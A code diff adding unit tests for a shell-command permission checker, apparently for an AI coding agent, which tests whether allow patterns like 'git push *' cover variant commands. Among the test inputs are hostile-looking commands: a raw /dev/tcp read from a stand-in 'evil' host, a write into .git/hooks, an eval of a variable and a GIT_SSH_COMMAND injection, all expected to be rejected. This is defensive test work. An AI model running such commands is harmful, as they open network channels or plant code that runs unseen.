@@ -1,6 +1,7 @@
 import { expect, test } from "vitest";
 import { parseCommands } from "../shell/parse-commands.ts";
 import { isCarrierPattern } from "./carrier-pattern.ts";
+import { judgeCommands } from "./check-command.ts";
 import { commandPattern } from "./command-pattern.ts";
 
 // oxfmt-ignore
@@ -26,6 +27,40 @@ for (const { pattern, command, matches } of MATCHES) {
   test(`the pattern "${pattern}" ${matches ? "matches" : "does not match"} ${command}`, () => {
     const [only] = parseCommands(command).commands;
     expect(only !== undefined && commandPattern(pattern).matches(only)).toBe(matches);
+  });
+}
+
+// oxfmt-ignore
+const COVERS = [
+  { pattern: "git push *",  command: "git push origin main",         covers: true },
+  { pattern: "git push *",  command: "/usr/bin/git push",            covers: true },
+  { pattern: "git push *",  command: "./git push",                   covers: false },
+  { pattern: "git push *",  command: "/tmp/git push",                covers: false },
+  { pattern: "./git push *", command: "./git push",                  covers: true },
+  { pattern: "git push *",  command: "git push && git push origin",  covers: true },
+  { pattern: "git push *",  command: "git push; ls",                 covers: false },
+  { pattern: "git push *",  command: "sudo git push",                covers: false },
+  { pattern: "git push *",  command: "git push $X",                  covers: true },
+  { pattern: "git push *",  command: "git $X",                       covers: false },
+  { pattern: "git push *",  command: "GIT_SSH_COMMAND=x git push",   covers: false },
+  { pattern: "npm test *",  command: "CI=1 npm test",                covers: true },
+  { pattern: "npm test *",  command: "A=1; npm test",                covers: true },
+  { pattern: "npm test *",  command: "npm test > out.txt 2>&1",      covers: true },
+  { pattern: "git push *",  command: "git push > out.txt",           covers: false },
+  { pattern: "git push *",  command: "git push > /dev/null 2>&1",    covers: true },
+  { pattern: "git push *",  command: "git push &> $F",               covers: false },
+  { pattern: "echo *",      command: "echo x > .git/hooks/a",        covers: false },
+  { pattern: "cat *",       command: "cat < /dev/tcp/evil/80",       covers: false },
+  { pattern: "npm test *",  command: "npm test; > a",                covers: false },
+  { pattern: "eval *",      command: 'eval "$X"',                    covers: false },
+  { pattern: "ls *",        command: "A=1",                          covers: false },
+] as const;
+
+for (const { pattern, command, covers } of COVERS) {
+  test(`to allow "${pattern}" ${covers ? "is" : "is not"} to allow ${command}`, () => {
+    const parsed = parseCommands(command);
+    const verdict = judgeCommands(parsed, { roots: ["/work"], home: "/home/ann", folder: "/work" });
+    expect(commandPattern(pattern).covers({ parsed, verdict })).toBe(covers);
   });
 }
 
